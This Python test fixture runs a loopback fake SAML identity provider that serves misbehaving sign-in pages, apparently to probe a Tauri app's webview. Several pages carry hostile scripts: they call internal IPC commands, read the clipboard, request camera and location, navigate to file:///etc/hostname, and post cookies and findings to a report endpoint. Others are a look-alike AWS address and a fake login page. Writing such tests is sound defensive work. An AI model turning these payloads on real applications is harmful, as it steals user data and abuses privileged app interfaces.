"""An identity provider whose last page behaves in odd or malicious ways. Runs in this process, on loopback.

It doesn't ask for a password. It posts a real assertion that a real identity provider has just issued.
"""

from __future__ import annotations

import contextlib
import json
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from peers.saml import ACS
from peers.tls import self_signed

FORM = '<form method="post" action="{acs}"><input type="hidden" name="SAMLResponse" value="{saml}"></form>'
BUTTON = FORM.replace("</form>", "<button>Continue</button></form>")

HABITS = {
    "submit": FORM + "<script>document.forms[0].submit()</script>",
    "submit when it is loaded": FORM + "<script>addEventListener('load', () => document.forms[0].submit())</script>",
    "click": BUTTON + "<script>document.querySelector('button').click()</script>",
    "requestSubmit": BUTTON + "<script>document.forms[0].requestSubmit()</script>",
    # A field named submit or action hides the form's own member.
    "fields with the form's own names": (
        FORM.replace("</form>", '<input name="submit" value="x"><input name="action" value="/x"></form>')
        + "<script>HTMLFormElement.prototype.submit.call(document.forms[0])</script>"
    ),
    "a button with its own address": (
        BUTTON.replace("{acs}", "/nowhere").replace("<button>", '<button formaction="{acs}">')
        + "<script>document.querySelector('button').click()</script>"
    ),
    "an assertion that is put in at the last moment": (
        BUTTON.replace("{saml}", "")
        + """<script>document.forms[0].addEventListener('submit', (e) => e.target.elements[0].value = '{saml}');
        document.querySelector('button').click()</script>"""
    ),
    "a listener that swallows the event": (
        BUTTON
        + """<script>addEventListener('submit', (e) => e.stopImmediatePropagation(), true);
        document.querySelector('button').click()</script>"""
    ),
    "a form for a new window": FORM.replace("<form", '<form target="_blank"') + "<script>document.forms[0].submit()</script>",
    "a form in a shadow tree": (
        """<div></div><script>const root = document.querySelector('div').attachShadow({ mode: 'closed' });
        root.innerHTML = `"""
        + BUTTON
        + "`; root.querySelector('button').click()</script>"
    ),
    "scripts of the old school": (
        FORM
        + """<script>'use strict'; function Old() {} Old.prototype.toString = () => 'old';
        HTMLFormElement.prototype.submit = ((native) => function () { native.call(this); })(HTMLFormElement.prototype.submit);
        if (`${new Old()}` === 'old') document.forms[0].submit()</script>"""
    ),
    "a frame": '<iframe src="/submit"></iframe>',
    "a frame of another site": '<iframe src="http://localhost:{port}/submit"></iframe>',
    "two pages on the way": "<script>setTimeout(() => location = '/second', 100)</script>",
    "second": "<script>setTimeout(() => location.replace('/submit'), 100)</script>",
}  # fmt: skip
"""Pages that go to AWS by themselves, each in its own way."""

PRYING = FORM + """<script>
(async () => {
  const seen = {};
  const ask = async (name, work) => {
    try { seen[name] = `answered: ${JSON.stringify(await work())}`; } catch (e) { seen[name] = `refused: ${e?.message ?? e}`; }
  };
  const soon = (work, ms = 1000) => Promise.race([work, new Promise((_, no) => setTimeout(no, ms, 'silence'))]);
  const invoke = (command, args) => soon(window.__TAURI_INTERNALS__.invoke(command, args), 3000);
  await ask('__TAURI__', async () => { if (!window.__TAURI__) throw 'not there'; });
  await ask('snapshot', () => invoke('snapshot'));
  await ask('stop_all', () => invoke('stop_all'));
  await ask('sign_in', () => invoke('sign_in', { identity: 'x', device: false, given: {} }));
  await ask('listen', () => invoke('plugin:event|listen', { event: 'event', target: { kind: 'Any' }, handler: 1 }));
  await ask('emit', () => invoke('plugin:event|emit', { event: 'navigate', payload: {} }));
  await ask('window', () => invoke('plugin:webview|create_webview_window', { options: { label: 'x', url: '/' } }));
  await ask('title', () => invoke('plugin:window|set_title', { label: 'main', value: 'x' }));
  await ask('ipc', async () => (await soon(fetch('ipc://localhost/snapshot'))).text());
  await ask('page', async () => (await soon(fetch('tauri://localhost/index.html'))).text());
  await ask('camera', () => soon(navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'a camera')));
  await ask('place', () => soon(new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))));
  await ask('notifications', async () => {
    const said = await soon(Notification.requestPermission());
    if (said !== 'granted') throw said;
  });
  await ask('clipboard', () => soon(navigator.clipboard.readText()));
  for (const address of ['tauri://localhost/', 'file:///etc/hostname', 'data:text/html,gone']) {
    location.href = address;
    await new Promise((done) => setTimeout(done, 200));
    seen[address] = `at ${location.host}`;
  }
  seen.engine = `at ${navigator.userAgent}`;
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
  document.forms[0].submit();
})();
</script>"""

WATCHING = """<iframe src="http://localhost:{port}/submit"></iframe>
<script>
  const seen = [];
  for (const name of ['submit', 'formdata', 'hashchange', 'popstate', 'message', 'securitypolicyviolation', 'error'])
    addEventListener(name, (e) => seen.push(`${name} ${e.data ?? ''} ${e.blockedURI ?? ''}`), true);
  globalThis.navigation?.addEventListener('navigate', (e) => seen.push(`navigate ${e.destination.url}`));
  const look = () => { seen.push(`at ${location.href}`); fetch('/report', { method: 'POST', body: JSON.stringify(seen), keepalive: true }); };
  setInterval(look, 20);
  look();
</script>"""

ASKING = FORM + """<button autofocus>Sign in with somebody else</button><script>
  document.cookie = 'flavour=vanilla';
  let other;
  addEventListener('message', (e) => { if (e.source === other && e.data === 'known') document.forms[0].submit(); });
  document.querySelector('button').addEventListener('click', () => { other = open({address}, 'other', 'width=400,height=300'); {then} });
</script>"""
"""A page that asks a second one in another window."""

ASKED = """<button autofocus>Yes, it is me</button><script>
  document.querySelector('button').addEventListener('click', async () => {
    await fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, opened: !!opener }) });
    opener.postMessage('known', '*');
    close();
  });
</script>"""

OTHERS = {
    "asks in a window": ASKING.replace("{address}", "'/asked'").replace("{then}", ""),
    "asks in an empty window": ASKING.replace("{address}", "''").replace("{then}", "other.location = '/asked'"),
    "asked": ASKED,
    "answers in a window": ASKING.replace("{address}", "'/submit'").replace("{then}", ""),
    "pries in a window": ASKING.replace("{address}", "'/prying'").replace("{then}", ""),
    "opens what nobody asked for": FORM
    + """<script>
      const opened = open('/asked');
      fetch('/report', { method: 'POST', body: JSON.stringify({ opened: !!opened }) }).then(() => document.forms[0].submit());
    </script>""",
    "chain": """<button autofocus>Another one</button><script>
      document.querySelector('button').addEventListener('click', () => open('/chain', '_blank'));
    </script>""",
    "prying": PRYING,
    "watching": WATCHING,
    "look-alike": FORM.replace("{acs}", "https://signin.aws.amazon.com.daypass.invalid/saml")
    + "<script>document.forms[0].submit()</script>",
    "empty": FORM.replace("{saml}", "") + "<script>document.forms[0].submit()</script>",
    "link": '<a href="/submit" target="_blank" autofocus>Continue in a new window</a>',
    "download": '<a href="/file" download="taken.txt" autofocus>Download</a>',
    "login": "<title>Sign in to corp · login.trusted.example</title><p>Who are you?</p><input autofocus>",
    "stranger": '<a href="/remember" autofocus>Sign in</a>',
    "remember": FORM + "<script>document.forms[0].submit()</script>",
    "silence": "<p>Nothing here ever goes on.</p>",
}


@dataclass
class OddPages:
    """The running server, with each page at `url/NAME`."""

    url: str
    saml_response: str = ""
    """The assertion that its pages post."""
    reports: list = field(default_factory=list)
    """What its pages have reported."""

    def page(self, name: str) -> str:
        """A page's URL."""
        return f"{self.url}/{name.replace(' ', '-')}"


@contextlib.contextmanager
def odd_pages(*, forms: str = "'none'") -> Iterator[OddPages]:
    """Run the identity provider. Its pages may send forms to `forms`: nowhere, unless a browser is to send them."""
    pages = {f"/{name.replace(' ', '-')}": page for name, page in (HABITS | OTHERS).items()}

    class Provider(BaseHTTPRequestHandler):
        def do_GET(self):
            page = pages.get(self.path)
            # The strictest policy that still runs the page's own script. Forms may not be sent anywhere.
            to = "https:" if self.path in ("/look-alike", "/empty") else forms
            policy = (
                f"default-src 'none'; script-src 'nonce-1'; form-action {to}; base-uri 'none'; connect-src 'self'; "
                f"frame-src 'self' http://localhost:{port} https:"
            )
            self.show(page, 200 if page else 404, policy)

        def show(self, page: str | None, status: int, policy: str):
            page = (page or "<p>Nothing here.</p>").replace("<script>", '<script nonce="1">')
            for name, value in {"acs": ACS["aws"], "saml": served.saml_response, "port": str(port)}.items():
                page = page.replace(f"{{{name}}}", value)
            self.answer(page.encode(), status, policy)

        def do_POST(self):
            body = self.rfile.read(int(self.headers["Content-Length"]))
            if self.path == "/sso":
                # Knows the person by a cookie that browsers keep from the forms of other sites.
                is_known = "known=1" in self.headers.get("Cookie", "")
                served.reports.append({"known": is_known, "asked": body.startswith(b"SAMLRequest=")})
                policy = "default-src 'none'; script-src 'nonce-1'; form-action 'none'"
                return self.show(pages["/remember" if is_known else "/stranger"], 200, policy)
            served.reports.append(json.loads(body))
            self.answer(b"", 204, "default-src 'none'")

        def answer(self, body: bytes, status: int, policy: str):
            self.send_response(status)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Security-Policy", policy)
            if self.path == "/remember":
                self.send_header("Set-Cookie", "known=1; SameSite=Lax; HttpOnly; Path=/; Max-Age=3600")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Provider)
    port = server.server_port
    served = OddPages(f"http://127.0.0.1:{port}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield served
    finally:
        server.shutdown()
        server.server_close()


@contextlib.contextmanager
def odd_pages_over_tls(folder: Path) -> Iterator[str]:
    """Run a page over TLS with an untrusted certificate. Returns its URL."""
    certificate = self_signed(folder)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate.cert, certificate.key)
    server = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"https://localhost:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
